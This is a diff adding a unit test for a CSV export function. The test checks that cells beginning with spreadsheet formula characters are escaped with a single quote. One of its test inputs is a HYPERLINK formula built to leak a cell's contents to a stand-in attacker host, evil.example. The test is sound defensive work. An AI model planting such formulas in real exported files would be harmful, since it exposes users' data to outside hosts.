@@ -22,6 +22,21 @@ describe('toCsv', () => {
     expect(toCsv(rows, 'es')).toBe('\uFEFFNúmero;Importe;Nota\r\nF-1;1234,5;"dice ""hola""; adiós"\r\nF-2;-9;\r\n');
     expect(toCsv(rows, 'en')).toBe('\uFEFFNúmero,Importe,Nota\r\nF-1,1234.5,"dice ""hola""; adiós"\r\nF-2,-9,\r\n');
   });
+  it('writes text a spreadsheet would run as a formula after a single quote, and negative amounts as numbers (issue 29)', async () => {
+    const { toCsv } = await import('../../src/custom/csv');
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+    const rows = [[hyperlink, '+1', '-x', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', -12.5, 'a=b', '']];
+    const line = (csv: string) => csv.slice(1, -2); // one row: without the byte order mark and the final line break
+    const en = line(toCsv(rows, 'en'));
+    // The hyperlink holds a comma and quotes: quoted, quotes doubled, its '=' no longer first.
+    expect(en).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",'+1,'-x,'@SUM(A1:A2),'\t=1+1,"'\r=1+1",-12.5,a=b,`);
+    const es = line(toCsv(rows, 'es'));
+    expect(es.split(';').slice(1, 4)).toEqual(["'+1", "'-x", "'@SUM(A1:A2)"]);
+    // A negative amount is a number a spreadsheet sums, written as the language writes it.
+    expect(es.split(';')[6]).toBe('-12,5');
+    // No cell of either file starts with a formula character.
+    for (const line of [en, es]) for (const cell of line.split(/[,;](?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+  });
 });
 
 describe('formatInstant', () => {
